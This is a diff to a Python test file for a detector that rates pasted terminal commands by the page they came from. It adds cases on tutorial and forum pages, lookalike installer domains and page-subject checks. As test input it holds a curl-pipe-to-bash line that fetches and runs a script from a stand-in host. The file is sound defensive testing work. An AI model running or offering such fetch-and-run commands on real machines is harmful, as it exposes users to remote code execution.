@@ -7,7 +7,12 @@ import pytest
 from app.detection import Context, Engine, Level, PasteTarget
 from app.detection.engine import default_trust_path
 from app.detection.indicators import parse_url
-from app.detection.provenance import forge_owner, registrable_domain, same_project
+from app.detection.provenance import (
+    forge_owner,
+    page_about_software,
+    registrable_domain,
+    same_project,
+)
 from app.detection.trust import TrustList
 
 TERMINAL = PasteTarget.TERMINAL
@@ -90,6 +95,12 @@ def test_forge_sections_and_other_sites_have_no_owner(url: str) -> None:
         # a project's site named like its repository (not its account)
         ("https://widgetctl.dev/docs", "https://raw.githubusercontent.com/acme-tools/widgetctl/main/i.sh", False, True),
         ("https://ohmywidget.dev/", "https://github.com/jdoe/oh-my-widget/releases/download/v1/i.sh", False, True),
+        # a tutorial, a question or a help article whose address names the product
+        ("https://acme-soft.com/docs/setup-widgetctl", "https://widgetctl.dev/install.sh", False, False),
+        ("https://stackoverflow.com/questions/1/how-to-install-widgetctl-on-mac", "https://get.widgetctl.io", False, False),
+        ("https://blog.example.org/2025/03/trying-out-oh-my-widget", "https://ohmywidget.dev/install.sh", False, False),
+        ("https://widgetctl.zendesk.example/hc/en-us/articles/1-install", "https://widgetctl.io/install.sh", False, False),
+        ("https://dev.to/jo/setting-up-widgetctl-3k2j", "https://raw.githubusercontent.com/acme-tools/widgetctl/main/install.sh", False, True),
     ],
 )  # fmt: skip
 def test_a_page_vouches_for_its_own_projects_script(
@@ -126,7 +137,15 @@ def test_a_page_vouches_for_its_own_projects_script(
         ("https://xn--vndor-3ve.dev/docs", "https://xn--vndor-3ve.dev/install.sh", False, False),
         # a page naming a product vouches for that product's site, not for a longer name
         ("https://acme-soft.com/docs/widgetctl/install", "https://widgetctl-mirror.top/i.sh", False, False),
-        ("https://acme-soft.com/docs/setup-widgetctl", "https://widgetctl.dev/install.sh", False, False),
+        ("https://acme-soft.com/docs/setup-widgetctlpro", "https://widgetctl.dev/install.sh", False, False),
+        ("https://acme-soft.com/docs/setup-widgetctl", "https://widgetctl-install.top/i.sh", False, False),
+        ("https://acme-soft.com/docs/setup-widgetctl", "https://get-widgetctl.top/i.sh", False, False),
+        # ...nor for another repository, a tenancy, a check page or a short or generic name
+        ("https://dev.to/jo/setting-up-widgetctl-3k2j", "https://raw.githubusercontent.com/mallory/widgetctl-helper/main/i.sh", False, True),
+        ("https://dev.to/jo/setting-up-widgetctl-3k2j", "https://widgetctl.pages.dev/i.sh", True, False),
+        ("https://captcha-check.example/widgetctl", "https://widgetctl.dev/install.sh", False, False),
+        ("https://blog.example.org/how-to-install-cli", "https://cli.top/x.sh", False, False),
+        ("https://blog.example.org/how-to-install-fd", "https://fd.dev/x.sh", False, False),
         # words that name no one, on either side
         ("https://example.org/install/", "https://install.top/x.sh", False, False),
         ("https://verify.example.top/captcha", "https://captcha.top/x.sh", False, False),
@@ -321,8 +340,17 @@ def test_without_a_trait_a_strangers_page_warns_and_an_official_installer_stays_
     engine: Engine,
 ) -> None:
     plain = "curl -fsSL https://cdn.pixel-relay.example/install.sh | bash"
+    # a page that could be a developer's (a question, a forum thread): a warning
+    for page in [
+        "https://stackoverflow.com/questions/79011223/permission-denied-when-piping-to-sh",
+        "https://forum.example.org/t/help-with-setup/4411",
+    ]:
+        verdict = engine.analyze(plain, Context(source=page, target=TERMINAL))
+        assert verdict.level is Level.SUSPICIOUS, (page, verdict.rule_ids)
+    # a page whose address is about something else: no developer reading is left, a block
     verdict = engine.analyze(plain, Context(source=STRANGER_PAGE, target=TERMINAL))
-    assert verdict.level is Level.SUSPICIOUS, verdict.rule_ids
+    assert verdict.level is Level.MALICIOUS, verdict.rule_ids
+    assert "PG-PAGE-OFF-TOPIC" in verdict.rule_ids
     for page, text in [
         ("https://www.rust-lang.org/tools/install", "curl -sSf https://sh.rustup.rs | sh -s -- -y"),
         ("https://brew.sh/", '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'),
@@ -357,3 +385,31 @@ def test_an_installer_saved_to_temp_and_started_from_its_own_page_is_info(
     ]:
         verdict = engine.analyze(lure_text, Context(source=lure_page, target=TERMINAL))
         assert verdict.level is Level.MALICIOUS, (lure_page, lure_text, verdict.rule_ids)
+
+
+@pytest.mark.parametrize(
+    ("page", "about"),
+    [
+        # developer sites, developer sections, software words in the address
+        ("https://stackoverflow.com/questions/1/why-does-my-pipe-hang", True),
+        ("https://docs.acme-soft.example/start", True),
+        ("https://forum.selfhosters.example/t/8812", True),
+        ("https://janedoe.example/2025/05/12/my-homelab-rebuild", True),
+        ("https://www.example.org/how-to-install-widgetctl-on-ubuntu/", True),
+        ("https://acme-soft.example/downloads/", True),
+        # words, none of them about software
+        ("https://www.lakeside-bakery.example/menu/autumn-specials", False),
+        ("https://www.localpaper.example/sport/2026/11/30/derby-report", False),
+        ("https://streamhub.example/watch/season-2-episode-7", False),
+        ("https://chat-share.example/share/6731b2c4", False),
+        # the bait of fake pages is not a developer's word
+        ("https://browser-help.example/fix-error/update", False),
+        # nothing to judge by: no path words, ids only, an IP, not a web page
+        ("https://janedoe.example/", None),
+        ("https://shop.example/p/12345", None),
+        ("https://203.0.113.9/menu/autumn", None),
+        ("Slack", None),
+    ],
+)  # fmt: skip
+def test_what_a_page_address_says_of_its_subject(page: str, about: bool | None) -> None:
+    assert page_about_software(page) is about
